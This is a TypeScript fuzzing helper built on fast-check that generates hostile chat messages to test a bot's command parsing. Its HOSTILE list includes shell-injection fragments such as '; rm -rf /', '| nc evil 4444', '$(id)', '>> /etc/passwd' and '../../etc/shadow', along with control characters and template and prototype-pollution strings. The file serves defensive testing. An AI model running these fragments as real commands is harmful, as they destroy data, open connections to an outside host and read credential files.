import fc from 'fast-check';

/** Pieces hostile users (and broken clients) put into chat messages. */
const HOSTILE = [
  '; rm -rf /', '&& reboot', '| nc evil 4444', '$(id)', '`whoami`', '${HOME}', '$PATH', "'", '"', "'; echo pwned; '", '"$(curl x)"', '\\', '\\n',
  '>', '<', '>> /etc/passwd', '2>&1', '*', '?', '~', '../../etc/shadow', '--help', '-oProxyCommand=sh', '--force', '@', 'api@$(id)', 'api@`id`',
  '\n', '\r\n', '\t', '\u0000', '\u0007', '\u001b[31m', '\u007f', '\u202e', '\u200f', '\u200b', 'e\u0301\u0301\u0301', '\ufeff', '🔥', 'مرحبا', 'שלום',
  '<@U0123ABCD>', '<@U0123ABCD|alice>', '<#C0123ABCD|general>', '<!channel>', '<!subteam^S0123|@platform>', '<http://127.0.0.1:9/|click here>', '<mailto:a@b.c|a@b.c>',
  '&amp;', '&lt;script&gt;', '%s%n', '{{7*7}}', 'NaN', '-1', '99999999999999999999', '0x41', '1e309', '[]', '{}', 'null', 'undefined', '__proto__', 'constructor',
  'to production', 'to staging', 'act', 'observe', 'in', 'out', 'steal', 'for 1h', 'yes', 'no',
];

/** Words that reach real listeners, so the fuzz goes past "unknown command". */
export function commandWords(usages: string[]): string[] {
  const words = new Set<string>();
  for (const usage of usages) {
    const literal: string[] = [];
    for (const word of usage.split(/\s+/)) {
      if (!/^[a-z][\w-]*$/i.test(word)) break;
      literal.push(word);
      words.add(literal.join(' '));
    }
  }
  return [...words];
}

export function hostileMessage(words: string[], names: string[]): fc.Arbitrary<string> {
  const fragment = fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...HOSTILE) },
    { weight: 3, arbitrary: fc.constantFrom(...names) },
    { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
    { weight: 1, arbitrary: fc.stringMatching(/^[a-z0-9-]{1,10}(@[a-z0-9.]{1,8})?$/) },
  );
  const body = fc.array(fragment, { maxLength: 8 }).chain((parts) => fc.constantFrom(' ', '', '  ').map((sep) => parts.join(sep)));
  const command = fc.tuple(fc.constantFrom(...words, ''), body).map(([word, rest]) => `${word} ${rest}`);
  const huge = fc.tuple(fc.constantFrom(...words), fc.constantFrom('x', '$(a)', '🔥', '\u0301', ' ')).map(([word, unit]) => `${word} ${unit.repeat(Math.ceil(100_000 / unit.length))}`);
  return fc.oneof({ weight: 60, arbitrary: command }, { weight: 1, arbitrary: huge }, { weight: 4, arbitrary: body });
}
